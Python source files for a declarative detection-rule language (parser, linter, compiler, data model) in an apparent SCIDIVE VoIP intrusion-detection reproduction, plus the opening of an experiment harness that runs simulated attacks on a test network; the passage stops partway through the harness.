from repro.core.alerts import Severity
from repro.core.events import Event
from repro.core.rules import (
    ConjunctionRule,
    Rule,
    RuleSet,
    SequenceRule,
    SingleEventRule,
    ThresholdRule,
)
from repro.rulespec.model import RuleDef, RulePack
from repro.rulespec.parser import WHERE_RE, RulePackError

# Named Python group-key functions a pack can reference as
# ``builtin:NAME`` — for keys that need real code (packing an Endpoint
# into a hashable tuple is not expressible as an attr lookup).
from repro.core.rules_library import _media_src_group

BUILTIN_GROUP_KEYS: dict[str, Callable[[Event], object]] = {
    "media_src": _media_src_group,
}

_SEVERITY_BY_NAME = {
    "info": Severity.INFO,
    "low": Severity.LOW,
    "medium": Severity.MEDIUM,
    "high": Severity.HIGH,
    "critical": Severity.CRITICAL,
}

# Per-shape defaults mirror the class constructors exactly, so a pack
# that omits a key compiles to the same rule the class default builds.
_DEFAULT_SEVERITY = {
    "single": Severity.HIGH,
    "threshold": Severity.MEDIUM,
    "sequence": Severity.HIGH,
    "watch": Severity.HIGH,
    "conjunction": Severity.CRITICAL,
}
_DEFAULT_COOLDOWN = {
    "single": 0.0,
    "threshold": 5.0,
    "sequence": 0.0,
    "watch": 0.0,
    "conjunction": 10.0,
}

_MISSING = object()


def _literal(text: str):
    """A where-clause RHS: int, then float, then (possibly quoted) string."""
    try:
        return int(text)
    except ValueError:
        pass
    try:
        return float(text)
    except ValueError:
        pass
    if len(text) >= 2 and text[0] == text[-1] and text[0] in ("'", '"'):
        return text[1:-1]
    return text


_OPS: dict[str, Callable[[object, object], bool]] = {
    "==": lambda a, b: a == b,
    "!=": lambda a, b: a != b,
    ">=": lambda a, b: a >= b,
    "<=": lambda a, b: a <= b,
    ">": lambda a, b: a > b,
    "<": lambda a, b: a < b,
}


def compile_where(clauses: tuple[str, ...]) -> Callable[[Event], bool] | None:
    """AND the clauses into one predicate (None when there are none)."""
    if not clauses:
        return None
    compiled = []
    for clause in clauses:
        match = WHERE_RE.match(clause)
        if match is None:
            raise ValueError(f"malformed where clause: {clause!r}")
        attr, op, value = match.group(1), match.group(2), _literal(match.group(3).strip())
        compiled.append((attr, _OPS[op], value))

    def predicate(event: Event) -> bool:
        attrs = event.attrs
        for attr, op, value in compiled:
            actual = attrs.get(attr, _MISSING)
            if actual is _MISSING:
                return False
            try:
                if not op(actual, value):
                    return False
            except TypeError:
                return False
        return True

    return predicate


def compile_key(spec: str | None) -> Callable[[Event], object] | None:
    """A ``group_by`` / ``correlate`` spec as a key function (None keeps
    the class default, i.e. the session id)."""
    if spec is None or spec == "session":
        return None
    if spec.startswith("attr:"):
        name = spec.split(":", 1)[1]
        return lambda e: e.attrs.get(name, e.session)
    if spec.startswith("const:"):
        value = spec.split(":", 1)[1]
        return lambda e: value
    if spec.startswith("builtin:"):
        name = spec.split(":", 1)[1]
        try:
            return BUILTIN_GROUP_KEYS[name]
        except KeyError:
            raise ValueError(f"unknown builtin group key: {name!r}") from None
    raise ValueError(f"malformed key spec: {spec!r}")


def compile_rule(rdef: RuleDef, pack: RulePack | None = None) -> Rule:
    """Lower one definition onto its rule class."""
    severity = (
        _SEVERITY_BY_NAME[rdef.severity]
        if rdef.severity
        else _DEFAULT_SEVERITY[rdef.shape]
    )
    cooldown = (
        rdef.cooldown if rdef.cooldown is not None else _DEFAULT_COOLDOWN[rdef.shape]
    )
    name = rdef.name or rdef.rule_id
    predicate = compile_where(rdef.where)
    if rdef.shape == "single":
        rule: Rule = SingleEventRule(
            rule_id=rdef.rule_id,
            name=name,
            event_name=rdef.event,
            severity=severity,
            attack_class=rdef.attack_class,
            predicate=predicate,
            message=rdef.message,
            cooldown=cooldown,
        )
    elif rdef.shape == "threshold":
        rule = ThresholdRule(
            rule_id=rdef.rule_id,
            name=name,
            event_name=rdef.event,
            threshold=rdef.threshold,
            window=rdef.window,
            severity=severity,
            attack_class=rdef.attack_class,
            group_by=compile_key(rdef.group_by),
            predicate=predicate,
            message=rdef.message,
            cooldown=cooldown,
        )
    elif rdef.shape in ("sequence", "watch"):
        # A watch is sugar for the two-step sequence arm -> fire.
        rule = SequenceRule(
            rule_id=rdef.rule_id,
            name=name,
            sequence=tuple(rdef.events),
            window=rdef.window,
            severity=severity,
            attack_class=rdef.attack_class,
            message=rdef.message,
            cooldown=cooldown,
        )
    elif rdef.shape == "conjunction":
        rule = ConjunctionRule(
            rule_id=rdef.rule_id,
            name=name,
            required=tuple(rdef.events),
            window=rdef.window,
            severity=severity,
            attack_class=rdef.attack_class,
            correlate=compile_key(rdef.correlate),
            message=rdef.message,
            cooldown=cooldown,
        )
    else:  # pragma: no cover - the parser rejects unknown shapes
        raise ValueError(f"unknown rule shape: {rdef.shape!r}")
    rule.enabled = rdef.enabled
    rule.mode = rdef.mode
    if pack is not None:
        rule.pack_version = pack.label
        rule.source_location = f"{pack.source_path}:{rdef.line}"
    return rule


def compile_pack(pack: RulePack, indexed: bool = True) -> RuleSet:
    """Compile a whole pack into an (indexed) RuleSet.

    Every compiled rule carries the pack's identity label and its own
    source location, which flow into alerts, checkpoints and evidence
    bundles; the RuleSet itself keeps the pack on ``.pack`` so the
    engine, ``/healthz`` and ``repro stats`` can report what is loaded.
    """
    try:
        rules = [compile_rule(rdef, pack) for rdef in pack.rules]
    except ValueError as exc:
        from repro.rulespec.parser import LintIssue

        raise RulePackError([
            LintIssue(0, "compile-error", str(exc), path=pack.source_path)
        ]) from exc
    ruleset = RuleSet(rules=rules, indexed=indexed)
    ruleset.pack = pack
    return ruleset
