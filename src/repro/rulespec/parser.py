"""Parsing and linting for ``*.rules`` pack files.

The format is a deliberately small INI dialect — line-oriented so every
diagnostic can point at the exact source line, which is the whole value
of ``repro rules check`` over a generic TOML loader's "invalid value"::

    [pack]
    name = scidive-core
    version = 1.0.0

    [rule DOS-001]
    type = threshold
    event = RepeatedUnauthRegister
    threshold = 5
    window = 10.0
    group_by = attr:source

Grammar, informally:

* ``[pack]`` — exactly one; ``name`` and semver ``version`` required;
  optional ``extra_events`` whitelists event names beyond the built-in
  generators' vocabulary.
* ``[rule RULE-ID]`` — one per rule; ``type`` picks the shape
  (``single`` | ``threshold`` | ``sequence`` | ``watch`` |
  ``conjunction``) and decides which other keys are legal.
* ``key = value`` — first ``=`` splits, so messages and ``where``
  clauses may contain ``=`` freely.  ``#``-prefixed lines are comments.
* ``where`` may repeat; all clauses AND together.  Every other repeated
  key is an error.

``parse_pack`` returns ``(pack_or_None, issues)`` — the pack is only
built when no error-severity issue was found, but linting always scans
the whole file so one typo does not mask the next.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from repro.rulespec.model import (
    MODES,
    SEVERITIES,
    SHAPES,
    RuleDef,
    RulePack,
    is_semver,
)

_SECTION_RE = re.compile(r"^\[\s*(pack|rule)\s*([^\]]*)\]\s*$")
_RULE_ID_RE = re.compile(r"^[A-Za-z][A-Za-z0-9_.:-]*$")
_KEY_SPEC_RE = re.compile(r"^(session|attr:[A-Za-z_][A-Za-z0-9_]*|const:\S+|builtin:[A-Za-z_][A-Za-z0-9_]*)$")
WHERE_RE = re.compile(r"^([A-Za-z_][A-Za-z0-9_]*)\s*(==|!=|>=|<=|>|<)\s*(.+)$")

# Keys legal in any [rule] section, regardless of shape.
_COMMON_KEYS = frozenset(
    {"type", "name", "severity", "class", "message", "cooldown", "enabled", "mode"}
)
_SHAPE_KEYS = {
    "single": frozenset({"event", "where"}),
    "threshold": frozenset({"event", "threshold", "window", "group_by", "where"}),
    "sequence": frozenset({"sequence", "window"}),
    "watch": frozenset({"arm", "fire", "window"}),
    "conjunction": frozenset({"events", "window", "correlate"}),
}
_PACK_KEYS = frozenset({"name", "version", "extra_events"})


@dataclass(frozen=True, slots=True)
class LintIssue:
    """One diagnostic, anchored to a 1-based source line."""

    line: int
    code: str
    message: str
    severity: str = "error"
    path: str = field(default="", compare=False)

    def __str__(self) -> str:
        where = f"{self.path or '<string>'}:{self.line}"
        return f"{where}: {self.severity}: {self.message} [{self.code}]"


class RulePackError(ValueError):
    """A pack failed to parse or validate; carries the full issue list."""

    def __init__(self, issues: list[LintIssue]) -> None:
        self.issues = issues
        super().__init__("\n".join(str(issue) for issue in issues))


def known_event_names() -> frozenset[str]:
    """Every event name the built-in generators can produce — the
    vocabulary ``event =`` / ``events =`` values are checked against."""
    import repro.core.events as _events
    import repro.core.h323_generators as _h323

    names = {
        value
        for key, value in vars(_events).items()
        if key.startswith("EVENT_") and isinstance(value, str)
    }
    names.update(
        value
        for key, value in vars(_h323).items()
        if key.startswith("EVENT_") and isinstance(value, str)
    )
    return frozenset(names)


class _Section:
    __slots__ = ("kind", "ident", "line", "entries")

    def __init__(self, kind: str, ident: str, line: int) -> None:
        self.kind = kind
        self.ident = ident
        self.line = line
        # key -> list of (value, line); only ``where`` may legally repeat.
        self.entries: dict[str, list[tuple[str, int]]] = {}


def _split_sections(text: str, issues: list[LintIssue]) -> list[_Section]:
    sections: list[_Section] = []
    current: _Section | None = None
    for lineno, raw in enumerate(text.splitlines(), start=1):
        line = raw.strip()
        if not line or line.startswith("#") or line.startswith(";"):
            continue
        if line.startswith("["):
            header = _SECTION_RE.match(line)
            if header is None:
                issues.append(LintIssue(
                    lineno, "bad-section",
                    f"malformed section header {line!r} "
                    "(expected [pack] or [rule RULE-ID])",
                ))
                current = None
                continue
            kind, ident = header.group(1), header.group(2).strip()
            if kind == "pack" and ident:
                issues.append(LintIssue(
                    lineno, "bad-section", "[pack] takes no identifier"))
            if kind == "rule":
                if not ident:
                    issues.append(LintIssue(
                        lineno, "bad-section", "[rule] needs a rule id"))
                elif not _RULE_ID_RE.match(ident):
                    issues.append(LintIssue(
                        lineno, "bad-rule-id", f"invalid rule id {ident!r}"))
            current = _Section(kind, ident, lineno)
            sections.append(current)
            continue
        if "=" not in line:
            issues.append(LintIssue(
                lineno, "bad-line",
                f"expected 'key = value', got {line!r}"))
            continue
        key, value = line.split("=", 1)
        key = key.strip().lower()
        value = value.strip()
        if current is None:
            issues.append(LintIssue(
                lineno, "orphan-key",
                f"{key!r} appears before any section header"))
            continue
        entries = current.entries.setdefault(key, [])
        if entries and key != "where":
            issues.append(LintIssue(
                lineno, "duplicate-key",
                f"duplicate key {key!r} (first set on line {entries[0][1]})"))
            continue
        entries.append((value, lineno))
    return sections


def _get(section: _Section, key: str) -> tuple[str, int] | None:
    entries = section.entries.get(key)
    return entries[0] if entries else None


def _number(
    section: _Section, key: str, issues: list[LintIssue], *, kind: str = "float"
):
    entry = _get(section, key)
    if entry is None:
        return None
    value, lineno = entry
    try:
        return int(value) if kind == "int" else float(value)
    except ValueError:
        issues.append(LintIssue(
            lineno, "bad-value", f"{key} must be a number, got {value!r}"))
        return None


def _bool(section: _Section, key: str, issues: list[LintIssue], default: bool) -> bool:
    entry = _get(section, key)
    if entry is None:
        return default
    value, lineno = entry
    lowered = value.lower()
    if lowered in ("true", "yes", "on", "1"):
        return True
    if lowered in ("false", "no", "off", "0"):
        return False
    issues.append(LintIssue(
        lineno, "bad-value", f"{key} must be true or false, got {value!r}"))
    return default


def _names_list(value: str) -> tuple[str, ...]:
    return tuple(part.strip() for part in value.split(",") if part.strip())


def _check_event(
    name: str, lineno: int, known: frozenset[str], issues: list[LintIssue],
    *, code: str = "unknown-event", what: str = "event type",
) -> None:
    if name not in known:
        hint = ""
        close = [k for k in known if k.lower() == name.lower()]
        if close:
            hint = f" (did you mean {close[0]!r}?)"
        issues.append(LintIssue(
            lineno, code, f"unknown {what} {name!r}{hint}"))


def _check_key_spec(
    section: _Section, key: str, issues: list[LintIssue]
) -> str | None:
    entry = _get(section, key)
    if entry is None:
        return None
    value, lineno = entry
    if not _KEY_SPEC_RE.match(value):
        issues.append(LintIssue(
            lineno, "bad-key-spec",
            f"{key} must be session, attr:NAME, const:VALUE or builtin:NAME; "
            f"got {value!r}"))
        return None
    if value.startswith("builtin:"):
        from repro.rulespec.compiler import BUILTIN_GROUP_KEYS

        builtin = value.split(":", 1)[1]
        if builtin not in BUILTIN_GROUP_KEYS:
            issues.append(LintIssue(
                lineno, "unknown-builtin",
                f"unknown builtin group key {builtin!r} "
                f"(have: {', '.join(sorted(BUILTIN_GROUP_KEYS))})"))
            return None
    return value


def _parse_rule(
    section: _Section, known: frozenset[str], issues: list[LintIssue]
) -> RuleDef | None:
    before = len(issues)
    type_entry = _get(section, "type")
    if type_entry is None:
        issues.append(LintIssue(
            section.line, "missing-key",
            f"rule {section.ident} has no 'type ='"))
        return None
    shape, type_line = type_entry[0].lower(), type_entry[1]
    if shape not in SHAPES:
        issues.append(LintIssue(
            type_line, "unknown-type",
            f"unknown rule type {type_entry[0]!r} "
            f"(expected one of: {', '.join(SHAPES)})"))
        return None
    allowed = _COMMON_KEYS | _SHAPE_KEYS[shape]
    for key, entries in section.entries.items():
        if key not in allowed:
            issues.append(LintIssue(
                entries[0][1], "unknown-key",
                f"key {key!r} is not valid for a {shape} rule"))

    severity_entry = _get(section, "severity")
    severity = ""
    if severity_entry is not None:
        severity = severity_entry[0].lower()
        if severity not in SEVERITIES:
            issues.append(LintIssue(
                severity_entry[1], "bad-severity",
                f"severity must be one of {', '.join(SEVERITIES)}; "
                f"got {severity_entry[0]!r}"))
    mode_entry = _get(section, "mode")
    mode = "enforce"
    if mode_entry is not None:
        mode = mode_entry[0].lower()
        if mode not in MODES:
            issues.append(LintIssue(
                mode_entry[1], "bad-mode",
                f"mode must be one of {', '.join(MODES)}; got {mode_entry[0]!r}"))

    cooldown = _number(section, "cooldown", issues)
    if cooldown is not None and cooldown < 0:
        issues.append(LintIssue(
            _get(section, "cooldown")[1], "bad-value", "cooldown must be >= 0"))
    enabled = _bool(section, "enabled", issues, default=True)

    window = _number(section, "window", issues)
    if window is not None and window <= 0:
        issues.append(LintIssue(
            _get(section, "window")[1], "bad-window",
            f"window must be > 0 seconds, got {window:g}"))
    if shape in ("threshold", "sequence", "watch", "conjunction") \
            and _get(section, "window") is None:
        issues.append(LintIssue(
            section.line, "missing-key",
            f"{shape} rule {section.ident} needs 'window ='"))

    event: str | None = None
    events: tuple[str, ...] = ()
    threshold = None
    if shape in ("single", "threshold"):
        entry = _get(section, "event")
        if entry is None:
            issues.append(LintIssue(
                section.line, "missing-key",
                f"{shape} rule {section.ident} needs 'event ='"))
        else:
            event = entry[0]
            _check_event(event, entry[1], known, issues)
    if shape == "threshold":
        threshold = _number(section, "threshold", issues, kind="int")
        if threshold is None and _get(section, "threshold") is None:
            issues.append(LintIssue(
                section.line, "missing-key",
                f"threshold rule {section.ident} needs 'threshold ='"))
        elif threshold is not None and threshold < 1:
            issues.append(LintIssue(
                _get(section, "threshold")[1], "bad-threshold",
                f"threshold must be >= 1, got {threshold}"))
    if shape == "sequence":
        entry = _get(section, "sequence")
        if entry is None:
            issues.append(LintIssue(
                section.line, "missing-key",
                f"sequence rule {section.ident} needs 'sequence = A -> B'"))
        else:
            events = tuple(
                step.strip() for step in entry[0].split("->") if step.strip()
            )
            if len(events) < 2:
                issues.append(LintIssue(
                    entry[1], "bad-sequence",
                    "sequence needs at least two '->'-separated steps"))
            for step in events:
                _check_event(step, entry[1], known, issues)
    if shape == "watch":
        arm, fire = _get(section, "arm"), _get(section, "fire")
        for label, entry in (("arm", arm), ("fire", fire)):
            if entry is None:
                issues.append(LintIssue(
                    section.line, "missing-key",
                    f"watch rule {section.ident} needs '{label} ='"))
            else:
                _check_event(entry[0], entry[1], known, issues)
        if arm is not None and fire is not None:
            events = (arm[0], fire[0])
    if shape == "conjunction":
        entry = _get(section, "events")
        if entry is None:
            issues.append(LintIssue(
                section.line, "missing-key",
                f"conjunction rule {section.ident} needs 'events = A, B, ...'"))
        else:
            events = _names_list(entry[0])
            if len(events) < 2:
                issues.append(LintIssue(
                    entry[1], "bad-conjunction",
                    "conjunction needs at least two comma-separated events"))
            for operand in events:
                _check_event(
                    operand, entry[1], known, issues,
                    code="unbound-operand", what="conjunction operand",
                )

    group_by = _check_key_spec(section, "group_by", issues)
    correlate = _check_key_spec(section, "correlate", issues)

    where: list[str] = []
    for clause, lineno in section.entries.get("where", ()):
        if WHERE_RE.match(clause) is None:
            issues.append(LintIssue(
                lineno, "bad-where",
                f"where clause must be 'ATTR OP VALUE' with OP one of "
                f"== != >= <= > <; got {clause!r}"))
        else:
            where.append(clause)

    if len(issues) > before:
        return None
    name_entry = _get(section, "name")
    message_entry = _get(section, "message")
    class_entry = _get(section, "class")
    return RuleDef(
        rule_id=section.ident,
        shape=shape,
        line=section.line,
        name=name_entry[0] if name_entry else "",
        severity=severity,
        attack_class=class_entry[0] if class_entry else "generic",
        message=message_entry[0] if message_entry else None,
        cooldown=cooldown,
        enabled=enabled,
        mode=mode,
        event=event,
        events=events,
        threshold=threshold,
        window=window,
        group_by=group_by,
        correlate=correlate,
        where=tuple(where),
    )


def parse_pack(
    text: str, source_path: str = "<string>"
) -> tuple[RulePack | None, list[LintIssue]]:
    """Parse pack text; return ``(pack, issues)``.

    ``pack`` is None whenever any error-severity issue was recorded;
    the issue list always covers the whole file.
    """
    issues: list[LintIssue] = []
    sections = _split_sections(text, issues)

    pack_sections = [s for s in sections if s.kind == "pack"]
    if not pack_sections:
        issues.append(LintIssue(
            1, "missing-pack", "no [pack] section (name and version required)"))
    for extra in pack_sections[1:]:
        issues.append(LintIssue(
            extra.line, "duplicate-pack", "more than one [pack] section"))

    pack_name, version = "", ""
    extra_events: tuple[str, ...] = ()
    if pack_sections:
        head = pack_sections[0]
        for key, entries in head.entries.items():
            if key not in _PACK_KEYS:
                issues.append(LintIssue(
                    entries[0][1], "unknown-key",
                    f"key {key!r} is not valid in [pack]"))
        name_entry = _get(head, "name")
        if name_entry is None:
            issues.append(LintIssue(
                head.line, "missing-key", "[pack] needs 'name ='"))
        else:
            pack_name = name_entry[0]
        version_entry = _get(head, "version")
        if version_entry is None:
            issues.append(LintIssue(
                head.line, "missing-key", "[pack] needs a semver 'version ='"))
        else:
            version = version_entry[0]
            if not is_semver(version):
                issues.append(LintIssue(
                    version_entry[1], "bad-version",
                    f"version must be semver (MAJOR.MINOR.PATCH), "
                    f"got {version!r}"))
        extra_entry = _get(head, "extra_events")
        if extra_entry is not None:
            extra_events = _names_list(extra_entry[0])

    known = known_event_names() | set(extra_events)
    rules: list[RuleDef] = []
    seen: dict[str, int] = {}
    for section in sections:
        if section.kind != "rule" or not section.ident:
            continue
        if section.ident in seen:
            issues.append(LintIssue(
                section.line, "duplicate-rule",
                f"duplicate rule id {section.ident!r} "
                f"(first defined on line {seen[section.ident]})"))
            continue
        seen[section.ident] = section.line
        rdef = _parse_rule(section, known, issues)
        if rdef is not None:
            rules.append(rdef)

    if not any(s.kind == "rule" for s in sections):
        issues.append(LintIssue(
            1, "empty-pack", "pack defines no [rule ...] sections",
            severity="warning"))

    if any(issue.severity == "error" for issue in issues):
        return None, issues
    pack = RulePack(
        name=pack_name,
        version=version,
        rules=tuple(rules),
        source_path=source_path,
        source_text=text,
        extra_events=extra_events,
    )
    return pack, issues


def lint_text(text: str, source_path: str = "<string>") -> list[LintIssue]:
    """All diagnostics for pack text, with ``path`` filled in."""
    _, issues = parse_pack(text, source_path)
    return [
        LintIssue(i.line, i.code, i.message, i.severity, source_path)
        for i in issues
    ]


def lint_path(path: str) -> list[LintIssue]:
    try:
        with open(path, "r", encoding="utf-8") as fh:
            text = fh.read()
    except OSError as exc:
        return [LintIssue(0, "unreadable", str(exc), path=str(path))]
    return lint_text(text, str(path))


def load_pack(path: str) -> RulePack:
    """Read and parse one pack file; raise :class:`RulePackError` on any
    error-severity diagnostic."""
    try:
        with open(path, "r", encoding="utf-8") as fh:
            text = fh.read()
    except OSError as exc:
        raise RulePackError([LintIssue(0, "unreadable", str(exc), path=str(path))])
    pack, issues = parse_pack(text, str(path))
    if pack is None:
        raise RulePackError([
            LintIssue(i.line, i.code, i.message, i.severity, str(path))
            for i in issues
            if i.severity == "error"
        ])
    return pack
