"""``repro.rulespec``: the declarative rule DSL.

SCIDIVE's detection policy — which event patterns constitute an
intrusion — used to live exclusively in Python (``rules_library.py``),
so every new scenario meant a code change.  This package separates
policy from mechanism the way SecSip's VeTo language does for its SIP
inspection engine: rules ship as data (``*.rules`` pack files), and the
engine compiles them into the same indexed :class:`~repro.core.rules.RuleSet`
the hand-wired classes produce.

Three layers:

* :mod:`repro.rulespec.model` — :class:`RuleDef` (one parsed rule,
  primitives only) and :class:`RulePack` (a versioned, content-hashed
  collection with a canonical ``describe()`` form).
* :mod:`repro.rulespec.parser` — the line-oriented pack parser and
  linter; every diagnostic is anchored to a 1-based source line.
* :mod:`repro.rulespec.compiler` — ``compile_pack()`` lowers a pack
  onto the existing rule classes (``SingleEventRule``/``ThresholdRule``/
  ``SequenceRule``/``ConjunctionRule``), so trigger-event indexing,
  cooldowns, LRU group caps and checkpointing all keep working
  unchanged.

The shipped paper rules live in ``rules/scidive-core.rules`` at the
repository root; the equivalence suite proves the compiled pack raises
the same alert multiset as the Python originals.
"""

from repro.rulespec.compiler import compile_pack, compile_rule
from repro.rulespec.model import RuleDef, RulePack
from repro.rulespec.parser import (
    LintIssue,
    RulePackError,
    known_event_names,
    lint_path,
    lint_text,
    load_pack,
    parse_pack,
)

__all__ = [
    "LintIssue",
    "RuleDef",
    "RulePack",
    "RulePackError",
    "compile_pack",
    "compile_rule",
    "known_event_names",
    "lint_path",
    "lint_text",
    "load_pack",
    "parse_pack",
]
