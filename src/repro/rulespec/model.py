"""The rule-pack data model: plain data, no behaviour borrowed from the engine.

Everything here is built from primitives (strings, numbers, tuples) so a
:class:`RulePack` can cross a process boundary — cluster workers receive
the pack over the control queue during a hot reload and compile it
locally, because compiled :class:`~repro.core.rules.Rule` objects hold
lambdas and cannot be pickled.
"""

from __future__ import annotations

import hashlib
import re
from dataclasses import dataclass, field

# The rule shapes the DSL can express.  ``watch`` is the stateful
# arm/fire pair from the paper's "RTP flow after a session is torn
# down" phrasing; it lowers onto a two-step SequenceRule.
SHAPES = ("single", "threshold", "sequence", "watch", "conjunction")

MODES = ("enforce", "shadow", "suppress")

SEVERITIES = ("info", "low", "medium", "high", "critical")

_SEMVER_RE = re.compile(r"^\d+\.\d+\.\d+$")


def is_semver(version: str) -> bool:
    return bool(_SEMVER_RE.match(version))


@dataclass(frozen=True, slots=True)
class RuleDef:
    """One parsed ``[rule ...]`` section.

    ``line`` (the section header's source line) feeds diagnostics and
    the compiled rule's ``source_location``; it is excluded from
    equality so a pack and its reparsed canonical ``describe()`` form —
    whose sections land on different lines — still compare equal.
    """

    rule_id: str
    shape: str
    line: int = field(default=0, compare=False)
    name: str = ""
    severity: str = ""  # "" = the shape's default (see compiler)
    attack_class: str = "generic"
    message: str | None = None
    cooldown: float | None = None  # None = the shape's default
    enabled: bool = True
    mode: str = "enforce"
    # Shape-specific payload; unused fields stay at their defaults.
    event: str | None = None  # single / threshold
    events: tuple[str, ...] = ()  # sequence steps / conjunction operands
    threshold: int | None = None
    window: float | None = None
    group_by: str | None = None  # key spec: session | attr:N | const:V | builtin:N
    correlate: str | None = None  # conjunction key spec, same grammar
    where: tuple[str, ...] = ()  # predicate clauses, ANDed

    def describe_lines(self) -> list[str]:
        """This rule in canonical pack syntax (see RulePack.describe)."""
        lines = [f"[rule {self.rule_id}]", f"type = {self.shape}"]
        if self.name:
            lines.append(f"name = {self.name}")
        if self.severity:
            lines.append(f"severity = {self.severity}")
        if self.attack_class != "generic":
            lines.append(f"class = {self.attack_class}")
        if self.event is not None:
            lines.append(f"event = {self.event}")
        if self.events:
            if self.shape == "sequence":
                lines.append(f"sequence = {' -> '.join(self.events)}")
            elif self.shape == "watch":
                lines.append(f"arm = {self.events[0]}")
                lines.append(f"fire = {self.events[1]}")
            else:
                lines.append(f"events = {', '.join(self.events)}")
        if self.threshold is not None:
            lines.append(f"threshold = {self.threshold}")
        if self.window is not None:
            # repr, not :g — the canonical form must round-trip floats
            # losslessly or two different packs could share a label.
            lines.append(f"window = {self.window!r}")
        if self.group_by is not None:
            lines.append(f"group_by = {self.group_by}")
        if self.correlate is not None:
            lines.append(f"correlate = {self.correlate}")
        for clause in self.where:
            lines.append(f"where = {clause}")
        if self.cooldown is not None:
            lines.append(f"cooldown = {self.cooldown!r}")
        if not self.enabled:
            lines.append("enabled = false")
        if self.mode != "enforce":
            lines.append(f"mode = {self.mode}")
        if self.message is not None:
            lines.append(f"message = {self.message}")
        return lines


@dataclass(frozen=True, slots=True)
class RulePack:
    """A parsed, versioned collection of rule definitions.

    Identity is ``name@version+hash`` where the hash covers the
    *canonical* form (:meth:`describe`), so reformatting or reordering
    comments never changes a pack's identity, while any semantic edit
    does.  That label is what alerts, checkpoints and ``/healthz``
    carry.
    """

    name: str
    version: str
    rules: tuple[RuleDef, ...]
    source_path: str = field(default="<string>", compare=False)
    source_text: str = field(default="", compare=False)
    # Event names the pack may reference beyond the built-in generators'
    # vocabulary (rules for custom event generators).
    extra_events: tuple[str, ...] = ()

    @property
    def content_hash(self) -> str:
        digest = hashlib.sha256(self.describe().encode("utf-8")).hexdigest()
        return digest[:12]

    @property
    def label(self) -> str:
        return f"{self.name}@{self.version}+{self.content_hash}"

    def rule(self, rule_id: str) -> RuleDef | None:
        for rdef in self.rules:
            if rdef.rule_id == rule_id:
                return rdef
        return None

    def describe(self) -> str:
        """The pack in canonical syntax: parsing this text yields an
        equal pack (modulo source lines/path), which the property suite
        round-trips through the compiler."""
        lines = ["[pack]", f"name = {self.name}", f"version = {self.version}"]
        if self.extra_events:
            lines.append(f"extra_events = {', '.join(self.extra_events)}")
        for rdef in self.rules:
            lines.append("")
            lines.extend(rdef.describe_lines())
        return "\n".join(lines) + "\n"

    def info(self) -> dict:
        """The JSON shape surfaced in /healthz, checkpoints and alerts."""
        return {
            "name": self.name,
            "version": self.version,
            "content_hash": self.content_hash,
            "label": self.label,
            "rules": len(self.rules),
            "source_path": self.source_path,
        }
