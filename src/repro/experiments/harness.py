"""Experiment harness: canned attack/benign runs with an attached IDS.

Every benchmark and most integration tests go through these entry
points, so a scenario is defined exactly once.  Each runner builds a
fresh testbed, attaches a SCIDIVE engine at client A's vantage (or
network-wide where the scenario requires it), drives the scenario, and
returns an :class:`ExperimentResult` with everything needed to score
detection delay / P_f / P_m.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from repro.attacks import (
    AttackReport,
    BillingFraudAttack,
    ByeAttack,
    CallHijackAttack,
    FakeImAttack,
    PasswordGuessAttack,
    RegisterDosAttack,
    RtpAttack,
)
from repro.core.alerts import Alert
from repro.core.engine import ScidiveEngine
from repro.core.event_generators import default_generators
from repro.core.metrics import Trial
from repro.obs.logsetup import get_logger
from repro.sim.link import LinkModel
from repro.voip.scenarios import im_exchange, mobility_call, normal_call, registration_churn
from repro.voip.testbed import CLIENT_A_IP, Testbed, TestbedConfig

_log = get_logger("experiments.harness")


@dataclass(slots=True)
class ExperimentResult:
    """Everything one run produced."""

    name: str
    testbed: Testbed
    engine: ScidiveEngine
    attack_report: AttackReport | None = None
    injection_time: float | None = None
    extras: dict[str, Any] = field(default_factory=dict)

    def __post_init__(self) -> None:
        # Every runner ends by building a result: one central place to
        # refresh gauges and log the run outcome.
        self.engine.snapshot_gauges()
        _log.info(
            "scenario complete",
            extra={"fields": {
                "scenario": self.name,
                "frames": self.engine.stats.frames,
                "footprints": self.engine.stats.footprints,
                "events": self.engine.stats.events,
                "alerts": len(self.engine.alerts),
                "injection_time": self.injection_time,
            }},
        )

    @property
    def alerts(self) -> list[Alert]:
        return self.engine.alerts

    def alerts_for(self, rule_id: str) -> list[Alert]:
        return self.engine.alerts_for_rule(rule_id)

    def detection_delay(self, rule_id: str) -> float | None:
        if self.injection_time is None:
            return None
        times = [a.time for a in self.alerts_for(rule_id) if a.time >= self.injection_time]
        return min(times) - self.injection_time if times else None

    def as_trial(self, rule_id: str | None = None) -> Trial:
        return Trial(
            attack_injected=self.attack_report is not None,
            injection_time=self.injection_time,
            alerts=list(self.alerts),
            rule_id=rule_id,
        )


def _build(
    seed: int,
    vantage: str | None = CLIENT_A_IP,
    monitoring_window: float = 0.5,
    seq_jump_threshold: int = 100,
    link: LinkModel | None = None,
    require_auth: bool = False,
    with_billing: bool = False,
    with_cell_phone: bool = False,
) -> tuple[Testbed, ScidiveEngine]:
    testbed = Testbed(
        TestbedConfig(
            seed=seed,
            link=link,
            require_auth=require_auth,
            with_billing=with_billing,
            with_cell_phone=with_cell_phone,
        )
    )
    engine = ScidiveEngine(
        vantage_ip=vantage,
        generators=default_generators(
            monitoring_window=monitoring_window, seq_jump_threshold=seq_jump_threshold
        ),
    )
    engine.attach(testbed.ids_tap)
    _log.debug(
        "testbed built",
        extra={"fields": {
            "seed": seed, "vantage": vantage or "network-wide",
            "metrics_enabled": engine.metrics_enabled,
        }},
    )
    return testbed, engine


# ---------------------------------------------------------------------------
# Attack runs
# ---------------------------------------------------------------------------


def run_bye_attack(
    seed: int = 7,
    monitoring_window: float = 0.5,
    link: LinkModel | None = None,
    talk_before: float = 1.5,
    observe_after: float = 2.0,
) -> ExperimentResult:
    """Figure 5: forged BYE tears down A's leg, B's RTP goes orphan."""
    testbed, engine = _build(seed, monitoring_window=monitoring_window, link=link)
    attack = ByeAttack(testbed)
    testbed.register_all()
    testbed.phone_a.call(f"sip:bob@{testbed.proxy.domain}")
    testbed.run_for(1.0 + talk_before)
    injection = testbed.now()
    attack.launch_now()
    testbed.run_for(observe_after)
    return ExperimentResult(
        name="bye-attack",
        testbed=testbed,
        engine=engine,
        attack_report=attack.report,
        injection_time=injection,
    )


def run_call_hijack(
    seed: int = 7,
    monitoring_window: float = 0.5,
    link: LinkModel | None = None,
    talk_before: float = 1.5,
    observe_after: float = 2.0,
) -> ExperimentResult:
